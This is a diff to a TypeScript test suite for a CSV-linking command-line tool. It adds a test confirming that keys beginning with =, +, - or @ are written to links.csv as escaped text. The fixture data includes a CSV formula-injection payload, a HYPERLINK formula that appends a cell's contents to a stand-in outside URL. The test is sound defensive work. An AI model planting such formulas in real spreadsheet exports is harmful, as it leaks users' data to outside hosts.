@@ -1,5 +1,5 @@
-// Files the CLI writes: whole or not at all, and a failed write is a non-zero exit with a clear
-// message.
+// Files the CLI writes: whole or not at all, a failed write is a non-zero exit with a clear
+// message, and links.csv never hands a spreadsheet a formula.
 import { spawnSync } from 'node:child_process'
 import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
 import { join, resolve } from 'node:path'
@@ -126,4 +126,59 @@ describe('writing a file all or nothing', () => {
     ).toBe(1)
     expect(err.join('\n')).toMatch(/does not exist|Cannot write/)
   })
+})
+
+describe('links.csv and spreadsheets', () => {
+  it('keys that look like formulas are written as text, never as a formula', async () => {
+    const folder = join(dir, 'formula')
+    mkdirSync(folder)
+    // Every national key and register key turned hostile: = + - @ at the start.
+    const hostile = ['=HYPERLINK("http://example.invalid/?"&A1,"x")', '+1+1', '-2+3', '@SUM(1)']
+    const rewrite = (file: string, keyColumn: number, out: string) => {
+      const lines = readFileSync(file, 'utf8').split(/\r?\n/)
+      const body = lines.slice(1).map((l, i) => {
+        if (l === '') return l
+        const cells = l.split(',')
+        const key = `${hostile[i % hostile.length]}${cells[keyColumn]}`
+        cells[keyColumn] = `"${key.replace(/"/g, '""')}"`
+        return cells.join(',')
+      })
+      writeFileSync(out, [lines[0], ...body].join('\n'))
+    }
+    rewrite(population, 0, join(folder, 'population.csv'))
+    rewrite(registry, 1, join(folder, 'registry.csv'))
+    const out = join(folder, 'links.csv')
+    const code = await main(
+      [
+        'link',
+        '--registry',
+        join(folder, 'registry.csv'),
+        '--population',
+        join(folder, 'population.csv'),
+        '--out',
+        out
+      ],
+      { out: () => undefined, err: () => undefined }
+    )
+    expect(code).toBe(0)
+    const rows = readFileSync(out, 'utf8')
+      .trim()
+      .split('\n')
+      .slice(1)
+      .map((l) => l.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((c) => c.replace(/,$/, '')))
+    expect(rows).toHaveLength(400)
+    let linked = 0
+    for (const [registryKey, populationKey] of rows) {
+      const cells = [registryKey!, populationKey!].map((c) =>
+        c.startsWith('"') ? c.slice(1, -1).replace(/""/g, '"') : c
+      )
+      for (const c of cells) expect(c).not.toMatch(/^[=+\-@]/)
+      expect(cells[0]).toMatch(/^'[=+\-@]/)
+      if (cells[1] !== '') {
+        linked++
+        expect(cells[1]).toMatch(/^'[=+\-@]/)
+      }
+    }
+    expect(linked).toBeGreaterThan(300)
+  }, 120_000)
 })
